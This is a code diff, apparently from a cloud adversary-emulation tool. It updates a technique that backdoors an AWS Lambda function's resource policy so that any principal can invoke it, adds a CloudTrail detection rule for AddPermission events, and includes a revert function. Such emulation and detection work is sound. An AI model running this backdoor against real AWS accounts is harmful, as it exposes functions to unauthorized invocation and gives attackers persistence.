@@ -39,23 +39,30 @@ References:
 - Through [IAM Access Analyzer](https://docs.aws.amazon.com/IAM/latest/UserGuide/access-analyzer-resources.html#access-analyzer-lambda), which triggers a finding when permissions are added to a Lambda function making it
 public or accessible from another account.
 `,
-		Platform:                   stratus.AWS,
-		IsIdempotent:               false, // lambda:AddPermissions cannot be called multiple times with the same statement ID
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
+		Platform:              stratus.AWS,
+		IsIdempotent:          false, // lambda:AddPermissions cannot be called multiple times with the same statement ID
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1546"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"eventSource": {"lambda.amazonaws.com"}, "eventName": {"AddPermission20150331", "AddPermission20150331v2"}},
+			},
+			FalsePositives: []string{"Functions intentionally exposed to other accounts or services"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
 var policyStatementId = "backdoor"
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	lambdaClient := lambda.NewFromConfig(providers.AWS().GetConnection())
 	lambdaFunctionName := params["lambda_function_name"]
 
 	log.Println("Backdooring the resource-based policy of the Lambda function " + lambdaFunctionName)
-	result, err := lambdaClient.AddPermission(context.Background(), &lambda.AddPermissionInput{
+	result, err := lambdaClient.AddPermission(ctx, &lambda.AddPermissionInput{
 		FunctionName: &lambdaFunctionName,
 		Action:       aws.String("lambda:InvokeFunction"),
 		Principal:    aws.String("*"), // I intended to share it only with a specific account ID, but couldn't get it working.
@@ -71,12 +78,12 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	lambdaClient := lambda.NewFromConfig(providers.AWS().GetConnection())
 	lambdaFunctionName := params["lambda_function_name"]
 
 	log.Println("Removing the backdoor statement in the resource-based policy of the Lambda function " + lambdaFunctionName)
-	_, err := lambdaClient.RemovePermission(context.Background(), &lambda.RemovePermissionInput{
+	_, err := lambdaClient.RemovePermission(ctx, &lambda.RemovePermissionInput{
 		FunctionName: &lambdaFunctionName,
 		StatementId:  &policyStatementId,
 	})